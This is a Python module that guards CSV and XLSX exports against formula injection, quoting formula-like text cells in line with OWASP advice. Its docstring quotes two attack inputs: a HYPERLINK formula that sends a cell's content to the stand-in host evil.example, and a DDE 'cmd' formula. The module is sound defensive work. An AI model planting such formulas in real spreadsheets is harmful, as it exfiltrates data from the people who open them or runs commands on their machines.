"""Spreadsheet cells that never run as formulas (CSV and formula injection).

Free text in the workspace (complaint texts, problem descriptions, village and town
names, raw values of rejected rows) reaches the CSV and XLSX files people open in Excel or
WPS. A text such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` or
``=cmd|' /C calc'!A0`` would run there as a formula. Every writer of a table for people
passes its cells through this module:

- CSV: a text cell (or column name) starting with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return gets a single quote in front, as the OWASP advice on CSV injection says;
  spreadsheets show the quote as the start of a text, not a formula.
- XLSX: such a cell is stored as a text cell (never a formula) and marked "quote prefix",
  so Excel keeps it text even when someone edits it.

Numbers stay numbers: only text values are touched (``-3.5`` in a numeric column is left as
it is; the text ``"-3.5"`` is prefixed, as it would otherwise be read as a number or a
formula).
"""

from __future__ import annotations

from collections.abc import Iterable

import numpy as np
import pandas as pd
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["FORMULA_STARTS", "csv_cells", "formula_like", "text_cells", "xlsx_cells"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_TEXT_KINDS = frozenset({"string", "mixed", "mixed-integer"})


def formula_like(values: pd.Series) -> np.ndarray:
    """Mask of ``values`` that are text starting with one of :data:`FORMULA_STARTS`.

    Numbers, dates, missing values and any other non-text value are never formula-like,
    whatever the column's dtype. Returns a boolean array aligned to ``values``.
    """
    if isinstance(values.dtype, pd.CategoricalDtype):
        values = values.astype(object)
    if pd.api.types.infer_dtype(values, skipna=True) not in _TEXT_KINDS:
        return np.zeros(len(values), dtype=bool)
    return values.str.startswith(FORMULA_STARTS, na=False).to_numpy(dtype=bool)


def _names(frame: pd.DataFrame) -> dict[str, str]:
    names = pd.Series([str(c) for c in frame.columns], dtype=object)
    hit = formula_like(names)
    return {str(c): "'" + str(c) for c, h in zip(frame.columns, hit, strict=True) if h}


def csv_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` ready for a CSV: formula-like text cells and column names start with ``'``.

    Returns a copy aligned to ``frame``'s index (``frame`` itself when nothing changes).
    """
    hits = {col: formula_like(frame[col]) for col in frame.columns}
    hits = {col: mask for col, mask in hits.items() if mask.any()}
    renamed = _names(frame)
    if not hits and not renamed:
        return frame
    out = frame.copy()
    for col, mask in hits.items():
        values = out[col].astype(object)
        values[mask] = "'" + values[mask].astype(str)
        out[col] = values
    return out.rename(columns=renamed)


def text_cells(cells: Iterable[Cell]) -> None:
    """Store every formula-like text among ``cells`` as text with Excel's quote prefix.

    openpyxl turns any string starting with ``=`` into a formula when it is assigned;
    this sets such cells (and text starting with the other :data:`FORMULA_STARTS`) back
    to plain text.
    """
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            cell.data_type = "s"
            cell.quotePrefix = True


def xlsx_cells(sheet: Worksheet, frame: pd.DataFrame, header_row: int = 1) -> None:
    """Make the cells of ``frame``, written to ``sheet`` under a header at ``header_row``
    from column A (as ``DataFrame.to_excel(index=False)`` does), inert text.

    Only the formula-like cells (found column by column, vectorised) are visited.
    """
    text_cells(sheet[header_row])
    for j, col in enumerate(frame.columns, start=1):
        rows = np.flatnonzero(formula_like(frame[col]))
        text_cells(sheet.cell(header_row + 1 + int(i), j) for i in rows)
